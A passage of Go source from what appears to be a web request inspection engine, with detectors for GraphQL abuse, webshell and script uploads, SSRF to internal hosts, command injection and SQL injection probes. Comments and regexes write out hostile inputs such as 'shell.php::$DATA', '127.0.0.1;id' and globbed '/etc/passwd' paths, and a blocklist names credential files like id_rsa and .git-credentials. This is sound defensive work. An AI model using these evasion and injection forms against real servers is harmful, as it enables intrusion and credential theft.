		return strings.HasPrefix(seg, "adminer") && strings.HasSuffix(seg, ".php") ||
			strings.HasPrefix(seg, "appsettings.") && strings.HasSuffix(seg, ".json") ||
			strings.HasPrefix(seg, "application-") && (strings.HasSuffix(seg, ".yml") || strings.HasSuffix(seg, ".yaml") || strings.HasSuffix(seg, ".properties"))
	}
	return false
}

// sourceCopy: a file name with a source or settings extension and then a
// copy's extension (index.php.1, config.php.txt, settings.ini.copy), or
// named as Windows and editors name copies ("index - copy.php", "copy of
// index.php").
func sourceCopy(base string) bool {
	if strings.Contains(base, " - copy") || strings.HasPrefix(base, "copy of ") {
		return true
	}
	i := strings.LastIndexByte(base, '.')
	j := strings.LastIndexByte(base[:max(i, 0)], '.')
	if i <= 0 || j < 0 || i == len(base)-1 {
		return false
	}
	outer := base[i+1:]
	if !copyExts[outer] && strings.Trim(outer, "0123456789") != "" {
		return false
	}
	return sourceExts[base[j+1:i]]
}

// hostNamed: an archive base that is a host name (example.com,
// www.shop.example.org), as site copies are named.
func hostNamed(b string) bool {
	i := strings.LastIndexByte(b, '.')
	return i > 0 && tlds[b[i+1:]] && strings.IndexAny(b, " /") < 0
}

// archiveBase: "backup", "db_2024-01-01", "www", "site-backup".
func archiveBase(b string) bool {
	b = strings.TrimRight(b, "0123456789-_.")
	for _, w := range archiveBases {
		if b == w || strings.HasPrefix(b, w+"_") || strings.HasPrefix(b, w+"-") || strings.HasSuffix(b, "_"+w) || strings.HasSuffix(b, "-"+w) || strings.HasSuffix(b, "."+w) {
			return true
		}
	}
	return strings.Contains(b, "backup") || strings.Contains(b, "dump")
}

// GraphQL: introspection (the schema is the map of the attack surface),
// batches of many operations in one request, alias abuse (one field asked
// for hundreds of times, the brute-force and DoS amplifier), excessive
// depth (also through fragments), fragment cycles, directive overloading
// and field duplication. The limits (graphql.go) are generous: clients
// generated from real schemas stay well below them.

// graphQLQueryClasses: a selection set; a value with none of these classes
// gives detectGraphQLQuery nothing to find, and inspect does not call it.
const graphQLQueryClasses = cBrace

// detectGraphQLQuery inspects a value that is a GraphQL document and
// returns the string literals of its arguments: injection inside a
// document is inside those, and inspect runs the detectors over each one
// as a value of its own, named by its argument (url:, path:, filter:), so
// that the rules that judge a whole parameter value see it whole.
func detectGraphQLQuery(e *emitter, v *value) []gqlArg {
	if v.cls&graphQLQueryClasses == 0 {
		return nil
	}
	inURL := v.kind == KindQueryValue
	if graphqlDocument(v.dec, v.name) {
		return graphQLVerdict(e, walkGraphQL(v.dec, true), inURL)
	}
	if inURL && strings.EqualFold(v.name, "query") && strings.Contains(v.dec, `"query"`) {
		// The whole JSON request in the query parameter ({"query": "…"}),
		// which some servers accept on GET: its documents are the
		// "query" members.
		return graphQLInJSON(e, v.dec, true)
	}
	return nil
}

// graphQLInJSON judges the "query" members of a JSON request and returns
// their arguments.
func graphQLInJSON(e *emitter, s string, inURL bool) []gqlArg {
	// The walk's callback escapes to the heap; a copy of the emitter goes
	// with it, so that e (on the caller's stack for every other value)
	// does not.
	he := new(emitter)
	*he = *e
	var args []gqlArg
	visit := func(isKey bool, _ []byte, name, doc string) bool {
		if !isKey && name == "query" && graphqlDocument(doc, name) {
			args = append(args, graphQLVerdict(he, walkGraphQL(doc, true), inURL)...)
		}
		return len(args) < graphqlMaxArgs
	}
	if walkJSON(s, maxJSONDepthCap, visit) != nil && strings.IndexByte(s, '+') >= 0 {
		// Encoded twice as a form: the spaces are still '+'.
		_ = walkJSON(strings.ReplaceAll(s, "+", " "), maxJSONDepthCap, visit)
	}
	*e = *he
	return args
}

// graphQLVerdict reports what the walk of one document found; inURL says
// it came in the URL's query, where GraphQL over HTTP allows queries only:
// a mutation there is what a link or an image tag makes a signed-in
// browser send (cross-site request forgery).
func graphQLVerdict(e *emitter, st gqlStats, inURL bool) []gqlArg {
	if st.introspection || st.fingerprint {
		e.hit(rGraphQLIntrospectionQuery)
	}
	if inURL && st.mutation {
		e.hit(rGraphQLURLMutation)
	}
	if st.abuse() {
		e.hit(rGraphQLAbuse)
	}
	return st.args
}

// graphqlDocument: the value starts like a GraphQL document (after
// comments, which a GraphQL server ignores), or is the query parameter of
// GET and JSON transports and not itself JSON.
func graphqlDocument(s, name string) bool {
	t := s
	for {
		t = strings.TrimLeft(t, " \t\r\n,\ufeff")
		if !strings.HasPrefix(t, "#") {
			break
		}
		i := strings.IndexAny(t, "\r\n")
		if i < 0 {
			return false
		}
		t = t[i:]
	}
	if strings.HasPrefix(t, "{") {
		// A selection set starts with a field name, never a string: a
		// brace then a quote is JSON (one object, or a stream of them).
		u := strings.TrimLeft(t[1:], " \t\r\n")
		return u == "" || u[0] != '"'
	}
	if strings.HasPrefix(t, "[") {
		return false
	}
	if strings.EqualFold(name, "query") {
		return true
	}
	if strings.HasPrefix(t, "query") || strings.HasPrefix(t, "mutation") || strings.HasPrefix(t, "subscription") || strings.HasPrefix(t, "fragment") {
		return true
	}
	// An operation name then its selection set: "IntrospectionQuery {".
	i := 0
	for i < len(t) && i < 64 && isWordByte(t[i]) {
		i++
	}
	return i > 0 && i < len(t) && (t[i] == '{' || t[i] == ' ' && i+1 < len(t) && t[i+1] == '{')
}

// scriptExtensions are file types a web server runs rather than serves.
var scriptExtensions = []string{".php", ".php3", ".php4", ".php5", ".php7", ".php8", ".phtml", ".phar", ".pht", ".phps", ".pgif", ".shtml", ".shtm", ".stm", ".jsp", ".jspx", ".jspf", ".jsw", ".jsv", ".asp", ".aspx", ".asa", ".asax", ".ascx", ".ashx", ".asmx", ".axd", ".cer", ".cfm", ".cfml", ".cfc", ".cgi", ".htaccess", ".htpasswd", ".user.ini"}

// detectUploadName flags an uploaded file whose name makes it a server
// script. Trailing dots, spaces and slashes are ignored (Windows and some
// servers drop them), and so is what follows a NUL, a ';' or an NTFS
// stream's ':' (C string APIs stop at the NUL, IIS reads "shell.asp;.jpg"
// as shell.asp, Windows writes shell.php for "shell.php::$DATA").
func detectUploadName(e *emitter, v *value) {
	n := strings.ReplaceAll(v.norm, " ", "")
	if i := strings.IndexByte(n, 0); i >= 0 {
		n = n[:i]
	}
	n = strings.TrimRight(n, "./")
	if scriptWritten(n) {
		e.hit(rUploadScript)
		return
	}
	if phpSessionFile(n) {
		e.hit(rUploadScript)
		return
	}
	// An upload named like a file that controls the server or holds a
	// credential: written where the name says, it replaces it.
	if base := n[strings.LastIndexByte(n, '/')+1:]; uploadTargetNames[base] {
		e.hit(rPathSensitive)
	}
}

// scriptWritten: a file name (lower case, without blanks, trailing dots
// and slashes) that a server stores as a script: a script name, or one
// before a ';' (IIS) or an NTFS stream's ':'.
func scriptWritten(n string) bool {
	if scriptName(n) {
		return true
	}
	if i := strings.IndexByte(n, ';'); i > 0 && scriptName(strings.TrimRight(n[:i], "./")) {
		return true
	}
	// An NTFS stream name (shell.php::$DATA, shell.php:x.jpg): Windows
	// writes the file named before the colon.
	i := strings.IndexByte(n, ':')
	return i > 1 && scriptName(strings.TrimRight(n[:i], "./"))
}

// scriptName: a file name (lower case, trimmed) that ends in a script
// extension or carries one before another extension (shell.php.jpg, which
// Apache's multiple-extension handling runs as PHP).
func scriptName(n string) bool {
	for _, x := range scriptExtensions {
		if strings.HasSuffix(n, x) || strings.Contains(n, x+".") && !strings.HasSuffix(n, ".txt") {
			return true
		}
	}
	return false
}

// uploadTargetNames are the files an upload overwrites to take a server
// or an account over: server and interpreter configuration, SSH keys and
// authorised keys, shell start-up files and histories, tool credentials.
// Application sources and configuration (settings.py, docker-compose.yml,
// credentials.json) are uploaded to code and CI services every day and are
// not listed.
var uploadTargetNames = wordSet(".htpasswd web.config .user.ini authorized_keys authorized_keys2 id_rsa id_dsa id_ecdsa id_ed25519 " +
	".bashrc .bash_profile .profile .zshrc .bash_history .zsh_history .boto .s3cfg .netrc .pgpass .npmrc .pypirc .git-credentials .vault-token .my.cnf")

// phpSessionFile: the base name is that of a PHP session file (sess_ and
// a session id of at least 20 characters), which an upload overwrites to
// plant a session.
func phpSessionFile(n string) bool {
	b := n[strings.LastIndexAny(n, "/\\")+1:]
	id, ok := strings.CutPrefix(b, "sess_")
	if !ok || len(id) < 20 {
		return false
	}
	for i := 0; i < len(id); i++ {
		if c := id[i]; !(c >= 'a' && c <= 'z' || c >= '0' && c <= '9' || c == ',' || c == '-') {
			return false
		}
	}
	return true
}

// reWebshell finds server-side code that runs what the request says,
// reads files, or obfuscates what it runs, inside an uploaded file. The
// block openers: PHP's "<?php", "<?=" and "<? " (not "<?xml"), <script
// language="php">; JSP's and ASP's "<%" and <jsp:scriptlet>. Then, in
// PHP, an execution, decoding, file-reading or callback primitive called,
// an include of a variable, a request superglobal, a variable-variable
// call (${'_'.$_}['_'](…)) or string literals XORed together (how
// alphanumeric-free shells spell their function names); in JSP and ASP,
// the process and reflection classes or the request's input read.
var reWebshell = regexp.MustCompile(`(?s)` +
	`(?:<\?(?:php\b|=|\s)|<script[^>]{0,60}\blanguage\s*=\s*["']?php\b)` +
	`.*?(?:\b(?:eval|assert|system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|create_function|call_user_func(?:_array)?|base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|move_uploaded_file|file_put_contents|file_get_contents|readfile|highlight_file|show_source|fsockopen|pfsockopen|stream_socket_client|preg_replace|array_map|array_filter|array_walk|uasort|uksort|usort|register_shutdown_function|ob_start)\s*\(` +
	`|\b(?:include|require)(?:_once)?\s*\(?\s*\$` +
	`|\$_(?:get|post|request|cookie|server|files|env)\s*[\[{]` +
	`|\$\{[^{}]{1,60}\}\s*(?:\[[^\]]{0,20}\]\s*)*\(` +
	`|['"][^'"\n]{1,8}['"]\s*\^\s*['"])` +
	`|(?:<%|<jsp:(?:scriptlet|expression|declaration)>).*?(?:runtime\.getruntime\(\)|processbuilder|request\.getparameter|class\.forname|defineclass|scriptengine|process\.start\s*\(|\b(?:eval|execute)\s*\(?\s*request|request\s*(?:\.\s*(?:form|querystring|item|params)\s*)?[\[(]\s*["'])` +
	`|wscript\.shell|server\.createobject|<script[^>]+runat\s*=\s*["']?server`)

// webshellCode reports server-side code in an uploaded file's content
// (lower-cased by the caller); polyglots (GIF89a<?php …) count.
func webshellCode(lc string) bool {
	if !strings.Contains(lc, "<?") && !strings.Contains(lc, "<%") && !strings.Contains(lc, "runat") && !strings.Contains(lc, "wscript.shell") && !strings.Contains(lc, "language") && !strings.Contains(lc, "<jsp:") {
		return false
	}
	return reWebshell.MatchString(lc)
}

// reSVGActive: what makes an SVG document run script when the site
// serves it: a script element, an event handler attribute, a javascript:
// URI.
var reSVGActive = regexp.MustCompile(`<script\b|\son[a-z]{3,40}\s*=|javascript\s*:`)

// svgScript reports an uploaded file (lower-cased) that is an SVG
// document carrying script. An SVG is an image to the upload form and a
// page to the browser that opens it from the site: stored XSS. Only a
// file whose first element is <svg> counts (after the XML declaration,
// a doctype and comments): an HTML page that draws inline icons is not
// an image.
func svgScript(lc string) bool {
	t := strings.TrimLeft(lc, " \t\r\n\ufeff")
	for range 8 {
		switch {
		case strings.HasPrefix(t, "<?"), strings.HasPrefix(t, "<!doctype"):
			i := strings.IndexByte(t, '>')
			if i < 0 {
				return false
			}
			t = t[i+1:]
		case strings.HasPrefix(t, "<!--"):
			i := strings.Index(t, "-->")
			if i < 0 {
				return false
			}
			t = t[i+3:]
		default:
			return strings.HasPrefix(t, "<svg") && reSVGActive.MatchString(t)
		}
		t = strings.TrimLeft(t, " \t\r\n")
	}
	return false
}

// inertJSURI: javascript: URLs that run nothing (void(0), an empty
// statement), which links and JSON-serialised markup carry everywhere.
func inertJSURI(s string) bool {
	r, ok := strings.CutPrefix(s, "javascript:")
	if !ok {
		return false
	}
	r = strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(r), ";"))
	switch r {
	case "", "void(0)", "void 0", "void(null)", "void 0;", "false", "return false", "undefined", "null", "//", "void(0)//":
		return true
	}
	return false
}

// fetchNames are parameter names that hold a URL the server fetches
// (webhooks, imports, previews, proxies): a loopback or private target
// there is server-side request forgery, not a link. Redirect and OAuth
// callback names are not here: a browser follows those, and development
// setups point them at localhost.
var fetchNames = []string{"url", "uri", "src", "source", "webhook", "hook", "endpoint", "feed", "rss", "proxy", "image", "img", "avatar", "icon", "fetch", "load", "file", "document", "download", "import", "preview", "remote", "upstream", "resource", "ping", "notify", "dest"}

// fetchExactNames hold a URL or a host the server connects to as
// link-preview, crawler, health-check and integration endpoints name them,
// but only as the whole name: a profile's "website" or "homepage" is a
// link people click, and may well be a router's address.
var fetchExactNames = wordSet("link domain server page html reference u")

// proxyHeader: a header that proxies and load balancers set with the
// URL they received (X-Original-Url, X-Rewrite-Url, X-Forwarded-*, X-Envoy-*),
// internal hosts included.
func proxyHeader(name string) bool {
	for _, p := range [...]string{"X-Original-", "X-Rewrite-", "X-Forwarded-", "X-Real-", "X-Envoy-", "X-Amzn-", "X-Request-", "X-Proxy-"} {
		if strings.HasPrefix(name, p) {
			return true
		}
	}
	return false
}

// fetchParam reports whether a parameter name says it holds a URL the
// server fetches ("url", "image_url", "webhookUri", "feed-src").
func fetchParam(name string) bool {
	if name == "" || len(name) > 40 {
		return false
	}
	var buf [40]byte
	for i := 0; i < len(name); i++ {
		c := name[i]
		if c >= 'A' && c <= 'Z' {
			c |= 0x20
		}
		buf[i] = c
	}
	ln := bstr(buf[:len(name)])
	if fetchExactNames[ln] {
		return true
	}
	for _, w := range [...]string{"redirect", "redir", "return", "callback", "next", "continue", "back", "goto", "login", "logout", "success", "cancel", "fail"} {
		if strings.Contains(ln, w) {
			return false
		}
	}
	for _, w := range fetchNames {
		if ln == w || len(w) >= 3 && strings.HasSuffix(ln, w) || strings.HasPrefix(ln, w) && len(ln) > len(w) && (ln[len(w)] == '_' || ln[len(w)] == '-') {
			return true
		}
	}
	return false
}

// hostStart: n begins like a host name or address (a letter, a digit or
// '['), not like a date or a path.
func hostStart(n string) bool {
	c := n[0]
	return c >= 'a' && c <= 'z' || c >= '0' && c <= '9' && !(len(n) > 4 && n[4] == '-') || c == '['
}

// loopbackName: a host name that resolves to loopback everywhere:
// localhost and its subdomains, the loopback aliases of /etc/hosts on
// Linux distributions (localhost.localdomain, localhost4, ip6-loopback …)
// and public wildcard zones that answer 127.0.0.1 (localtest.me, lvh.me).
func loopbackName(host string) bool {
	switch host {
	case "localhost", "localhost.localdomain", "localhost4", "localhost6", "localhost4.localdomain4", "localhost6.localdomain6",
		"ip6-localhost", "ip6-loopback", "ipv6-localhost", "ipv6-loopback", "localtest.me", "lvh.me":
		return true
	}
	return strings.HasSuffix(host, ".localhost") || strings.HasSuffix(host, ".localtest.me") || strings.HasSuffix(host, ".lvh.me")
}

// ssrfTargetClasses: a URL or a host:port; a value with none of these
// classes gives detectSSRFTarget nothing to find, and runDetectors does not
// call it.
const ssrfTargetClasses = cColon | cSlash

// detectSSRFTarget flags an internal target in a fetch-like parameter, or
// in any parameter when the URL is written without the slashes after its
// scheme.
func detectSSRFTarget(e *emitter, v *value) {
	if v.cls&ssrfTargetClasses == 0 {
		return
	}
	switch v.kind {
	case KindQueryValue, KindBodyValue, KindCookieValue:
	case KindHeaderValue:
		// An application's own header named for a URL it fetches
		// (X-Webhook-Url, X-Callback-Target): judged as that parameter.
		if len(v.name) < 6 || !strings.HasPrefix(v.name, "X-") || proxyHeader(v.name) || !fetchParam(v.name[2:]) {
			return
		}
	default:
		return
	}
	n := v.norm
	if v.cls&cColon != 0 && (n[0] == 'h' || n[0] == 'f' || n[0] == 'w') {
		if host, ok := slashlessURLHost(n); ok {
			if !canonicalHost(host) {
				// http:2852039166: an IP in an inet_aton spelling that
				// names the metadata service or loopback is judged as in
				// a URL with its slashes; other spellings read as a
				// scheme and a port or a number (http:80, https:443).
				if slashlessStrongTarget(host) {
					classifyHost(e, host, true, v.raw)
					return
				}
				return
			}
			if internalHost(host) {
				e.hit(rSSRFInternal)
				return
			}
		}
	}
	if v.kind == KindCookieValue {
		return
	}
	var host string
	if !isURLValue(n) && v.cls&(cSpace|cNL) != 0 && strings.Contains(n, "://") {
		// A line break or space inside the URL (…:25/%0D%0AHELO smuggles
		// a protocol command): the URL is what comes before it.
		if u, _, _ := strings.Cut(n, " "); isURLValue(u) {
			n = u
		}
	}
	if isURLValue(n) {
		i := strings.Index(n, "//")
		// WHATWG parsers skip any run of slashes (and backslashes, here
		// already slashes) after a special scheme: http:////127.0.0.1.
		rest := strings.TrimLeft(n[i+2:], "/")
		if authorityInternal(rest, specialScheme(n[:i])) && fetchParam(v.name) {
			e.hit(rSSRFInternal)
			return
		}
		host = urlHost(rest)
	} else if strings.IndexByte(n, ' ') < 0 && (strings.IndexByte(n, '/') > 0 || strings.IndexByte(n, ':') > 0) && hostStart(n) {
		// A bare host[:port]/path: fetch libraries prepend a scheme.
		host = urlHost(n)
		if h, port, ok := strings.Cut(strings.TrimPrefix(n, host), ":"); ok && h == "" && port != "" && port[0] >= '1' && port[0] <= '9' && strings.IndexByte(host, '.') < 0 && strings.IndexByte(host, ':') < 0 && host[0] >= 'a' && host[0] <= 'z' && fetchParam(v.name) && !fetchExactNames[strings.ToLower(v.name)] {
			// redis:6379/…: a single-label name and a port, which only
			// internal DNS resolves.
			e.hit(rSSRFInternal)
			return
		}
	} else {
		return
	}
	// The host is judged first: it is cheaper than the name, and most
	// are public.
	if internalHost(host) && fetchParam(v.name) {
		e.hit(rSSRFInternal)
	}
}

// internalHost: a loopback, unspecified, private or link-local address in
// any spelling, a loopback name, a cluster-internal name, a name under
// the suffixes private networks and service discovery use (.local mDNS,
// .lan, .corp, .home.arpa, .localdomain, .consul), a wildcard-DNS name
// of an internal address (10-0-0-1.sslip.io).
func internalHost(host string) bool {
	switch {
	case loopbackName(host) || host == "0",
		strings.HasSuffix(host, ".internal") || strings.HasSuffix(host, ".cluster.local") || strings.HasSuffix(host, ".svc") || host == "kubernetes.default" || strings.HasPrefix(host, "kubernetes.default."):
		return true
	}
	for _, z := range [...]string{".local", ".lan", ".corp", ".intranet", ".home.arpa", ".localdomain", ".consul", ".home"} {
		if strings.HasSuffix(host, z) && len(host) > len(z) {
			return true
		}
	}
	if ip, _, ok := parseHostIP(host); ok {
		ip = unembed(ip)
		return ip.IsLoopback() || ip.IsUnspecified() || ip.IsPrivate() || ip.IsLinkLocalUnicast()
	}
	return wildcardDNSHost(host)
}

// authorityInternal: rest is a URL after its "//"; one of the hosts URL
// parsers may read in its authority is internal. Parsers disagree on an
// authority with several '@' (foo@127.0.0.1:80@evil), with a '#' or '?'
// before an '@' (evil#@127.0.0.1) or a backslash: each piece between
// '@'s, cut at the first of "#?\\" and the port, is a host some
// parser connects to. The metadata services' own names count here (after
// a scheme: "metadata/…" alone is a relative path). A single-label name after a scheme of the web or
// of SSRF's usual tools (http://redis:6379, gopher://mysql/) resolves only
// through an internal DNS search domain (s3://bucket is no host).
func authorityInternal(rest string, special bool) bool {
	end := 0
	for end < len(rest) && rest[end] != '/' && rest[end] != ' ' {
		end++
	}
	auth := rest[:end]
	if auth == "" || len(auth) > 255 {
		return false
	}
	for auth != "" {
		var piece string
		if i := strings.IndexByte(auth, '@'); i >= 0 {
			piece, auth = auth[:i], auth[i+1:]
		} else {
			piece, auth = auth, ""
		}
		if i := strings.IndexAny(piece, "#?\\"); i >= 0 {
			piece = piece[:i]
		}
		h := urlHost(piece)
		if h == "" {
			continue
		}
		if internalHost(h) || h == "metadata" || h == "instance-data" || h == "rancher-metadata" {
			return true
		}
		if special && auth == "" && strings.IndexByte(h, '.') < 0 && strings.IndexByte(h, ':') < 0 && h[0] >= 'a' && h[0] <= 'z' {
			return true
		}
	}
	return false
}

// slashlessURLHost returns the host of a value that is a URL of a special
// scheme (http, https, ftp, ws, wss) written without the "//" after the
// scheme, or with one "/" (http:127.0.0.1, https:/10.0.0.5/admin): URL
// parsers of the WHATWG standard read the host from it all the same; a
// client that means a URL writes the slashes.
func slashlessURLHost(n string) (string, bool) {
	i := strings.IndexByte(n, ':')
	if i < 2 || i > 5 || strings.IndexByte(n, ' ') >= 0 {
		return "", false
	}
	switch n[:i] {
	case "http", "https", "ftp", "ws", "wss":
	default:
		return "", false
	}
	rest := n[i+1:]
	if strings.HasPrefix(rest, "//") {
		return "", false
	}
	rest = strings.TrimPrefix(rest, "/")
	if rest == "" || !hostStart(rest) {
		return "", false
	}
	h := urlHost(rest)
	return h, h != ""
}

// canonicalHost: a host name, a dotted-quad IPv4 address in decimal or a
// bracketed IPv6 address, not one of the inet_aton spellings
// (0xA9.0xFE.0xA9, 2130706433) that ssrf-obfuscated-ip judges in a URL
// with its slashes.
func canonicalHost(h string) bool {
	if _, obfuscated, ok := parseHostIP(h); ok {
		return !obfuscated
	}
	return true
}

// cdThenCommand: the value changes to an absolute, home or parent
// directory and then runs something (cd /;cd etc;…, cd ../.. && ls).
func cdThenCommand(line string) bool {
	r := strings.TrimLeft(line[3:], " ")
	if r == "" || r[0] != '/' && r[0] != '~' && !strings.HasPrefix(r, "..") {
		return false
	}
	i := strings.IndexAny(r, " ;|&")
	if i < 0 {
		return false
	}
	r = strings.TrimLeft(r[i:], " ")
	return r != "" && (r[0] == ';' || r[0] == '|' || r[0] == '&')
}

// hostThenCommand: the value is a host, address or number, then a shell
// separator (a line break too), then a command ("127.0.0.1;id",
// "example.com|whoami", "8.8.8.8\nuname -a"). Form fields that are lists
// ("name;id") are not hosts.
func hostThenCommand(sh string, v *value) bool {
	// One pass over the head: a host is made of few byte classes.
	for k := 0; k < len(sh); k++ {
		c := sh[k]
		if c == ';' || c == '|' || c == '&' || c == '\n' || c == ' ' && v.cls&cNL != 0 {
			break
		}
		if !(c >= 'a' && c <= 'z' || c >= '0' && c <= '9' || c == '.' || c == '-' || c == ':' || c == ' ') || k > 64 {
			return false
		}
	}
	i := strings.IndexAny(sh, ";|&\n")
	if i == 0 || i < 0 && strings.TrimLeft(v.dec, " \t\r\n") != v.dec && strings.TrimSpace(v.dec) != "" && strings.IndexAny(v.dec[:len(v.dec)-len(strings.TrimLeft(v.dec, " \t\r\n"))], "\r\n") >= 0 {
		// Nothing before the separator: the value is a separator and
		// a command that stands alone (";id", "\nwhoami").
		return aloneAfter(strings.TrimLeft(sh, " "))
	}
	if i < 0 && v.cls&cNL == 0 {
		return false
	}
	if v.cls&cNL != 0 {
		// norm folded line breaks into spaces: find the break in dec.
		j := strings.IndexAny(v.dec, "\r\n")
		if j > 0 && (i < 0 || j < i) {
			head := strings.ToLower(strings.TrimSpace(v.dec[:j]))
			if hostLike(head) {
				return commandAfterSeparator(newlinesAsSeparators(v))
			}
			return false
		}
	}
	if i < 0 {
		return false
	}
	head := strings.TrimSpace(sh[:i])
	return hostLike(head) && commandAfterSeparator(sh[i:]+" ") || hostLike(head) && aloneAfter(sh[i:])
}

// aloneAfter: separators, then a command that may stand alone, then the
// end of the value.
func aloneAfter(s string) bool {
	s = strings.TrimLeft(s, ";|& \n")
	tok := strings.TrimRight(s, "; ")
	return aloneCmds[tok] || strongCmds[tok]
}

// hostLike: an IPv4 address, a dotted host name or a number.
func hostLike(s string) bool {
	if s == "" || len(s) > 64 {
		return false
	}
	dots, digits := 0, 0
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c == '.':
			dots++
		case c >= '0' && c <= '9':
			digits++
		case c >= 'a' && c <= 'z' || c == '-' || c == ':':
		default:
			return false
		}
	}
	return dots > 0 || digits == len(s)
}

// systemDirs are the top-level directories a globbed path reaches for.
var systemDirs = []string{"etc", "bin", "sbin", "usr", "proc", "dev", "tmp", "var", "root", "home", "lib", "boot", "sys"}

// globbedSystemPath finds an absolute path whose first segment is a
// system directory written with glob characters (/e?c/, /???/, /[e]tc/,
// /b*n/): only a shell expands those, and only evasion writes them.
func globbedSystemPath(n string) bool {
	for i := 0; i < len(n); i++ {
		if n[i] != '/' || i > 0 && !strings.ContainsRune(" ;|&=`(\"'{,", rune(n[i-1])) {
			continue
		}
		// The path's segments; a [...] class is one unit, a '/' in it
		// included (/[e//]tc/).
		var segs [8]string
		k, depth, from, open, globbed := 0, 0, i+1, 0, false
		j := i + 1
		for ; j < len(n) && n[j] != ' ' && k < len(segs); j++ {
			switch c := n[j]; {
			case c == '[':
				depth++
				open = j
			case c == ']' && depth > 0:
				depth--
				// %[1]s is a printf argument index, not a class.
				globbed = globbed || n[open-1] != '%' && globClass(n[open+1:j])
			case c == '/' && depth == 0:
				segs[k] = n[from:j]
				k++
				from = j + 1
			}
		}
		if k < len(segs) && from < j {
			segs[k] = n[from:j]
			k++
		}
		if k == 0 || len(segs[0]) > 24 {
			continue
		}
		first := strings.ReplaceAll(segs[0], "/", "")
		// A class with a slash in it (/[e//]tc) matches no file name
		// character: only evasion writes one, also as the whole path.
		if (k >= 2 || globbed && first != segs[0]) && strings.ContainsAny(first, "?*[") {
			for _, d := range systemDirs {
				if globMatch(first, d) {
					return true
				}
			}
		}
		// A bracket class in a file name under a system directory
		// (/etc/pas[s]wd, /usr/bin/[u]name): a name nothing but a
		// shell glob writes so.
		if !globbed || k < 2 {
			continue
		}
		for _, d := range systemDirs {
			if segs[0] == d || globMatch(first, d) {
				return true
			}
		}
	}
	return false
}

// globClass: the inside of [...] is a shell character class (a few
// characters, a range, a negation), not a placeholder such as [name].
func globClass(c string) bool {
	c = strings.ReplaceAll(c, "/", "")
	if c == "" {
		return false
	}
	if c[0] == '!' || c[0] == '^' || len(c) == 3 && c[1] == '-' {
		return true
	}
	return len(c) <= 3
}

// globMatch matches name against a shell glob of ?, * and [...] classes
// (a class matches any one character: only the shape matters here).
func globMatch(pat, name string) bool {
	if pat == "" {
		return name == ""
	}
	switch pat[0] {
	case '*':
		for k := 0; k <= len(name); k++ {
			if globMatch(pat[1:], name[k:]) {
				return true
			}
		}
		return false
	case '?':
		return name != "" && globMatch(pat[1:], name[1:])
	case '[':
		end := strings.IndexByte(pat, ']')
		if end < 0 {
			return false
		}
		return name != "" && globMatch(pat[end+1:], name[1:])
	}
	return name != "" && pat[0] == name[0] && globMatch(pat[1:], name[1:])
}

// anchored is a regexp tried only where its keyword occurs, on at most
// window bytes from there: a long value costs a substring search, and the
// regexp (written with ^) runs only at the candidate positions.
type anchored struct {
	kw     string
	re     *regexp.Regexp
	window int
	// wordStart requires the keyword to start a word.
	wordStart bool
	// needAll: substrings the window must hold before the regexp runs.
	needAll []string
	// bit is the keyword feature bit of kw (set at init; 0 for a
	// one-byte kw, which is always searched).
	bit uint64
	// next, when set, lists the bytes the regexp can match right after
	// kw (after one optional space): the window is not searched when
	// another byte follows.
	next string
}

// nextOK: rest (what follows kw) starts, after one optional space, with a
// byte of a.next (always true when next is empty).
func (a *anchored) nextOK(rest string) bool {
	if a.next == "" {
		return true
	}
	if rest != "" && rest[0] == ' ' {
		rest = rest[1:]
	}
	return rest != "" && strings.IndexByte(a.next, rest[0]) >= 0
}

func (a *anchored) match(n string) bool {
	for off := 0; off < len(n); {
		i := strings.Index(n[off:], a.kw)
		if i < 0 {
			return false
		}
		i += off
		if (!a.wordStart || i == 0 || !isWordByte(n[i-1])) && a.nextOK(n[i+len(a.kw):]) {
			w := n[i:min(len(n), i+a.window)]
			ok := true
			for _, need := range a.needAll {
				if !strings.Contains(w, need) {
					ok = false
					break
				}
			}
			if ok && a.re.MatchString(w) {
				return true
			}
		}
		off = i + len(a.kw)
	}
	return false
}

// anyAnchored tries the matchers whose keyword the value holds (kw is the
// value's keyword feature mask).
func anyAnchored(n string, kw uint64, as []anchored) bool {
	for i := range as {
		if b := as[i].bit; (b == 0 || kw&b != 0) && as[i].match(n) {
			return true
		}
	}
	return false
}

// Keyword groups of the anchored matchers (see detect_keywords.go): the
// value's one keyword scan tells whether any of them can match.
var (
	sqlProbeWords = []string{"select", "declare @", "exec", "waitfor ", "convert", "cast", "load_file", "utl_inaddr.", "ctxsys.", "xmltype", "dbms_", "sleep", "benchmark", "randomblob"}
	// FOR and IF with EQU/NEQ… need a %variable (the class bit cPercent
	// gates them); the other IF forms need one of these words.
	cmdBatchWords = []string{"==", "exist ", "defined ", "errorlevel", ":~", "equ ", "neq ", "lss ", "leq ", "gtr ", "geq ", "cmdextversion"}
	cmdShapeWords = []string{"<(", ">(", "$(", "$[", "alias ", "{,"}
)

// sqlProbes are the probing statements, each at its keyword.
var sqlProbes = []anchored{
	{"select", regexp.MustCompile(`^select ?(?:\(? ?(?:sleep|pg_sleep|benchmark|randomblob) ?\( ?(?:[\d(]|[a-z_]\w* ?\()|@@[a-z_]+|(?:version|user|current_user|session_user|system_user|database|schema|db_name|suser_name|banner)\b ?\(?|\* ?from ?(?:information_schema|pg_catalog|pg_user|pg_shadow|sysibm\.|syscat\.|all_(?:tables|users|tab_columns)|user_(?:tables|users|tab_columns)|dba_(?:users|tables)|v\$(?:version|instance|database)|sys\.(?:objects|tables|databases|sql_logins)|sqlite_(?:master|schema)|mysql\.user|msysobjects|master\.))`), 60, true, nil, 0, "(@*spbrvucd"},
	{"select", regexp.MustCompile(`^select [\w, ]{1,80} from (?:dual|v\$version|v\$instance|sysibm\.sysdummy1|sysibm\.systables|syscat\.tables|all_tables|user_tables|dba_users|pg_user|pg_database|pg_tables|sys\.databases|sysdatabases|sqlite_master|rdb\$database|msysobjects|information_schema\.\w+)\b`), 160, true, []string{" from "}, 0, ""},
	{"declare @", regexp.MustCompile(`^declare @\w+ .{0,200}\b(?:exec|execute|sp_executesql)\b`), 260, true, []string{"exec"}, 0, ""},
	{"exec", regexp.MustCompile(`^exec(?:ute)? ?\( ?@\w+ ?\)`), 40, true, nil, 0, ""},
	{"waitfor ", regexp.MustCompile(`^waitfor (?:delay|time) ?['"]?\d`), 30, true, nil, 0, ""},
